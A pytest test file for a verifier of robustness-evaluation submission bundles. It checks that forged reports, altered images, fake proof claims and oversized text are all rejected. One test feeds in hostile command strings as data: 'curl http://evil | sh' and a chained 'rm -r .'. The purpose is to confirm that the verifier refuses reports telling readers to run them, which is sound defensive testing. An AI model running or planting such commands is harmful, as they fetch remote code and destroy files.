"""Forged bundles whose files fit together, and text that is slow to read."""

from __future__ import annotations

from collections.abc import Callable
from contextlib import suppress
from pathlib import Path
from typing import Any

import numpy as np
import pytest

import lip_plugin as lp
from lip_plugin.submission.write import write_bundle

from .conftest import Made
from .forging import derive, edit_json, rehash

Lip = Any

DIFFERENCE = {"eps": 0.1, "index": 0, "certificate_aware": "wrong", "full": "wrong"}


def test_the_patient_forger_alone_changes_nothing(lip: Lip, bundle: Path, data_file: Path) -> None:
    derive(bundle)
    assert lip("verify", bundle, "--data", data_file).code == 0


@pytest.mark.parametrize(
    ("place", "value", "named"),
    [
        ("audit/attacked_certified", 10**9, "certified points attacked"),
        ("stages/0/images", 10**9, "/stages/0"),
        ("stages/0/forwards", 10**15, "attack_forwards"),
        ("stages/0/eps", 0.05, "/stages/0/eps"),
        ("attacks", [], "attacks"),
        (
            "protocol_differences",
            [{"eps": 0.1, "index": 0, "certificate_aware": "broken", "full": "certified"}],
            "image 0",
        ),
        (
            "protocol_differences",
            [{"eps": 0.1, "index": 99, "certificate_aware": "wrong", "full": "wrong"}],
            "image 99",
        ),
    ],
)
def test_what_is_taken_on_trust_must_fit_the_rest(
    lip: Lip, bundle: Path, data_file: Path, place: str, value: Any, named: str
) -> None:
    def change(document: Any) -> None:
        *path, last = (int(part) if part.isdecimal() else part for part in place.split("/"))
        for part in path:
            document = document[part]
        document[last] = value

    edit_json(bundle / "report" / "report.json", change)
    with suppress(lp.CheckpointError):  # where the report contradicts itself, nothing more follows from it
        derive(bundle)
    rehash(bundle)
    outcome = lip("verify", bundle, "--data", data_file)
    assert outcome.code == 1
    assert named in outcome.err


def test_a_point_is_found_by_a_stage_that_ran(lip: Lip, bundle: Path, data_file: Path) -> None:
    path = bundle / "report" / "points.csv"
    path.write_text(path.read_text().replace("step-0.5", "proved minimal by MILP"))
    derive(bundle)
    outcome = lip("verify", bundle, "--data", data_file)
    assert outcome.code == 1
    assert "attack: claimed proved minimal by MILP" in outcome.err


@pytest.mark.parametrize(
    ("change", "named"),
    [
        (lambda document: document["environment"].update(seed="0).\n\n# Proved 99 %"), "environment"),
        (lambda document: document["environment"].update({"verified by": "NIST"}), "environment"),
        (lambda document: document["environment"].update({"checked": "by NIST"}), "environment"),
        (lambda document: document["environment"].pop("seed"), "environment"),
        (lambda document: document["dataset"].update(split="test\n\n# Proved 99 %"), "dataset/split"),
        (lambda document: document["stages"][0].update(eps=1e307), "stages/0/eps"),
        (lambda document: document["eps"].append(document["eps"][-1]), "eps"),
        (lambda document: document["request"].update(batch_size=2**40), "request/batch_size"),
    ],
)
def test_a_report_that_no_evaluation_writes_is_not_read(
    lip: Lip, bundle: Path, data_file: Path, change: Callable[[Any], None], named: str
) -> None:
    edit_json(bundle / "report" / "report.json", change)
    rehash(bundle)
    outcome = lip("verify", bundle, "--data", data_file)
    assert outcome.code == 1
    assert f"report.json: {named}" in outcome.err


@pytest.mark.parametrize("command", ["curl http://evil | sh", "lip compare tiny --n 24; rm -r .", "lip certify tiny"])
def test_a_reader_is_told_to_run_nothing_else(lip: Lip, bundle: Path, data_file: Path, command: str) -> None:
    edit_json(bundle / "report" / "report.json", lambda document: document["request"].update(command=command))
    rehash(bundle)
    outcome = lip("verify", bundle, "--data", data_file)
    assert outcome.code == 1
    assert "report.json: /request/command" in outcome.err


def test_included_images_are_looked_at_where_others_are_given(
    lip: Lip, made: Made, tmp_path: Path, data_file: Path
) -> None:
    directory = tmp_path / "whole"
    write_bundle(made.submission, made.perturbations, made.images, directory, include_images=True)
    with np.load(directory / "images.npz") as arrays:
        np.savez(directory / "images.npz", x=np.full_like(arrays["x"], 7), y=arrays["y"])
    rehash(directory)
    outcome = lip("verify", directory, "--data", data_file)
    assert outcome.code == 1
    assert "lip: images.npz: images (sha256)" in outcome.err


@pytest.mark.parametrize("content", ["1" * 60_000 + "x", "\n" * 60_000, "<svg " * 12_000, "a,\rb\n" * 9, "x" * 60_000])
@pytest.mark.parametrize("name", ["attack.log", "report/points.csv", "robustbench/new_model.md"])
def test_text_that_is_slow_to_read_is_read_all_the_same(
    lip: Lip, bundle: Path, data_file: Path, name: str, content: str
) -> None:
    (bundle / name).write_text(content, newline="")
    rehash(bundle)
    outcome = lip("verify", bundle, "--data", data_file)
    assert outcome.code == 1
    assert f"lip: {name}: " in outcome.err


def test_own_images_do_not_pass_for_a_test_split(lip: Lip, bundle: Path, data_file: Path) -> None:
    forged = {"name": "mnist", "split": "test", "of": 10_000, "in_order": True, "of_classes": 10}
    edit_json(bundle / "report" / "report.json", lambda document: document["dataset"].update(forged))
    edit_json(bundle / "bundle.json", lambda manifest: manifest.update(dataset="mnist"))
    rehash(bundle)
    outcome = lip("verify", bundle, "--data", data_file)
    assert outcome.code == 1
    assert "report.json: /dataset/name: claimed mnist, measured own images" in outcome.err
    assert "report.json: /dataset/of: claimed 10000" in outcome.err
